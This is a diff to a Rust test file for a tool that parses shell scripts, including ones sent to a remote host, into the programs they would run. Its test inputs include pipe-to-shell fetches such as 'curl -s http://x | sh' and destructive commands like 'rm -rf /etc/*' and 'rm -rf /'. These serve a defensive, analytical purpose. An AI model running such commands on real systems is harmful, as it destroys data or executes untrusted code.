@@ -146,7 +146,6 @@ fn text_that_is_not_known_is_unsure() {
     for script in [
         "curl -s http://x | sh",
         "eval \"$(curl http://x)\"",
-        "source /nonexistent/file",
         "bash <(curl http://x)",
         "echo $RANDOM | sh",
         "read c; $c",
@@ -274,6 +273,25 @@ fn shells_that_run_nothing_say_so() {
     }
 }
 
+#[test]
+fn in_another_place_nothing_here_is_looked_at() {
+    let there = |script: &str| {
+        let argv = ["bash", "-c", script].iter().map(OsString::from).collect();
+        programs(&through(&invocation(&["x"], Path::new("/tmp")).elsewhere(argv, "the host db1"), None).expect("a shell"))
+    };
+    assert_eq!(there("cd /srv && ls *.log | tail -n 3; echo $HOME"), ["ls|*.log", "tail|-n|3"]);
+    assert_eq!(there("rm -rf $DIR"), ["?rm|-rf|${DIR}"]);
+    assert_eq!(there("rm -rf ~/x /etc/*; rm *"), ["rm|-rf|~/x|/etc/*", "rm|*"]);
+    assert_eq!(there(". /etc/profile; bash deploy.sh; uptime"), ["uptime"]);
+    assert_eq!(there("ls / | xargs rm"), ["ls|/", "?rm"]);
+    assert_eq!(there("find /etc -name x -exec rm {} +"), ["?rm|{}"]);
+    assert_eq!(there("cat /etc/hostname | sh").last().map(String::as_str), Some("?"));
+    let argv = ["bash", "-c", "cd /etc; rm ssh"].iter().map(OsString::from).collect();
+    let found = through(&invocation(&["x"], Path::new("/")).elsewhere(argv, "db1"), None).expect("a shell");
+    assert_eq!(found.starts[0].invocation.cwd(), Path::new("/etc"));
+    assert_eq!(found.starts[0].invocation.place(), Some("db1"));
+}
+
 /// Pieces that have meaning to a shell, glued in a fixed pseudo-random order.
 #[test]
 fn no_text_takes_the_reader_down() {
@@ -378,4 +396,25 @@ fn bytes_that_are_no_text_are_unsure() {
     let argv = vec!["bash".into(), "-c".into(), std::ffi::OsStr::from_bytes(b"rm \xff").to_owned()];
     let through = through(&invocation(&["bash"], Path::new("/")).with_argv(argv), None).expect("a shell");
     assert!(matches!(through.command.does, Does::Unsure(_)));
+}
+
+#[test]
+fn a_script_in_another_place_looks_at_nothing_here() {
+    let place = Place::new("there");
+    let there = |script: &str| {
+        let outer = invocation(&["ssh"], &place.0);
+        let argv = ["sh", "-c", script].map(OsString::from).to_vec();
+        programs(&through(&outer.elsewhere(argv, "the host db1"), None).expect("a shell"))
+    };
+    assert_eq!(there("rm -rf /etc/* ~/x"), ["rm|-rf|/etc/*|~/x"], "patterns and homes are not ours");
+    assert_eq!(there("cd app && rm -rf build"), ["rm|-rf|build"]);
+    assert_eq!(there("cd app; git pull"), ["git|pull"], "that its directory is not known says nothing new");
+    assert_eq!(
+        there("rm -rf $HOME/x"),
+        ["?rm|-rf|${HOME}/x"],
+        "a variable that is not set here may be there"
+    );
+    assert_eq!(there("/bin/r? -rf /"), ["?/bin/r?|-rf|/"]);
+    assert_eq!(there("rm -rf $(ls /)"), ["ls|/", "?rm|-rf|$(ls /)"]);
+    assert_eq!(there("[ -e /x ] && reboot"), ["reboot"]);
 }
